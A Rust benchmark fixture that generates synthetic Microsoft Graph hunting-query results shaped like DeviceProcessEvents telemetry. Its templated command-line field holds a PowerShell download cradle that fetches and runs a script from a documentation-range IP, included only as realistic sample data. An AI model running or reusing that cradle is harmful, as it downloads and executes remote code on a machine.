//! A generated runHuntingQuery answer for benchmarks: `rows` rows of 20 columns in the shape of
//! DeviceProcessEvents (strings with escapes and non-ASCII text, datetimes with 7 fractional
//! digits, longs past 2^53, ints, bools, reals, guids, dynamic objects and arrays, a dynamic held
//! as a string of JSON, and some nulls), about 1 KB a row. Deterministic: the same rows every run.

/// The response body, as Graph sends it.
pub fn generate(rows: usize) -> Vec<u8> {
    let schema = [
        ("Timestamp", "DateTime"),
        ("DeviceId", "String"),
        ("DeviceName", "String"),
        ("ActionType", "String"),
        ("FileName", "String"),
        ("FolderPath", "String"),
        ("SHA256", "String"),
        ("ProcessId", "Int64"),
        ("ProcessCommandLine", "String"),
        ("ProcessCreationTime", "DateTime"),
        ("AccountName", "String"),
        ("InitiatingProcessFileName", "String"),
        ("InitiatingProcessId", "Int32"),
        ("ReportId", "Int64"),
        ("IsElevated", "Boolean"),
        ("Score", "Double"),
        ("CorrelationId", "Guid"),
        ("AdditionalFields", "Object"),
        ("Tags", "Object"),
        ("ExtraJson", "Object"),
    ];
    let mut body = String::with_capacity(rows * 1100 + 4096);
    body.push_str(r#"{"@odata.context":"https://graph.microsoft.com/v1.0/$metadata#microsoft.graph.security.huntingQueryResults","schema":["#);
    for (i, (name, kind)) in schema.iter().enumerate() {
        if i > 0 {
            body.push(',');
        }
        body.push_str(&format!(r#"{{"name":"{name}","type":"{kind}"}}"#));
    }
    body.push_str(r#"],"results":["#);
    let files = [
        "powershell.exe",
        "cmd.exe",
        "rundll32.exe",
        "svchost.exe",
        "請求書.exe",
    ];
    for row in 0..rows {
        if row > 0 {
            body.push(',');
        }
        let n = row as u64;
        let mix = n.wrapping_mul(0x9E37_79B9_7F4A_7C15);
        let file = files[row % files.len()];
        let day = row % 28 + 1;
        let (h, m, s) = (row % 24, (row / 24) % 60, (row / 1440) % 60);
        body.push_str(&format!(
            concat!(
                r#"{{"Timestamp":"2026-01-{day:02}T{h:02}:{m:02}:{s:02}.{frac:07}Z","#,
                r#""DeviceId":"{mix:040x}","DeviceName":"ws-{dev:04}.kestrel.example","#,
                r#""ActionType":"ProcessCreated","FileName":"{file}","#,
                r#""FolderPath":"C:\\Windows\\System32\\{file}","SHA256":"{mix:016x}{mix:016x}{mix:016x}{mix:016x}","#,
                r#""ProcessId":{pid},"ProcessCommandLine":"{file} -NoProfile -Command \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.{oct}/a.ps1')\" -Id {row}","#,
                r#""ProcessCreationTime":"2026-01-{day:02}T{h:02}:{m:02}:{s:02}.{frac2:07}Z","#,
                r#""AccountName":"{account}","InitiatingProcessFileName":"explorer.exe","InitiatingProcessId":{ipid},"#,
                r#""ReportId":{report},"IsElevated":{elevated},"Score":{score},"#,
                r#""CorrelationId":"{g1:08x}-{g2:04x}-4{g3:03x}-8{g4:03x}-{g5:012x}","#,
                r#""AdditionalFields":{{"Command":"whoami","Depth":{depth},"Parents":["explorer.exe","userinit.exe"]}},"#,
                r#""Tags":["lab","t{tag}"],"ExtraJson":"{{\"ProcessStartKey\":{report},\"Note\":\"ok\"}}"}}"#
            ),
            day = day,
            h = h,
            m = m,
            s = s,
            frac = (mix % 10_000_000),
            frac2 = ((mix >> 8) % 10_000_000),
            mix = mix,
            dev = row % 5000,
            file = file,
            pid = 1000 + (mix % 60_000),
            oct = row % 256,
            row = row,
            account = format!("user{:03}", row % 300),
            ipid = (mix % 30_000) as i32,
            report = (1u64 << 53) + mix % 1_000_000,
            elevated = row % 3 == 0,
            // Every 50th row holds an explicit null, as real answers do.
            score = if row % 50 == 0 {
                "null".to_string()
            } else {
                format!("{}", (mix % 10_000) as f64 / 100.0)
            },
            g1 = (mix >> 32) as u32,
            g2 = (mix >> 16) as u16,
            g3 = (mix >> 4) as u16 & 0xfff,
            g4 = mix as u16 & 0xfff,
            g5 = mix & 0xffff_ffff_ffff,
            depth = row % 7,
            tag = row % 10,
        ));
    }
    body.push_str("]}");
    body.into_bytes()
}
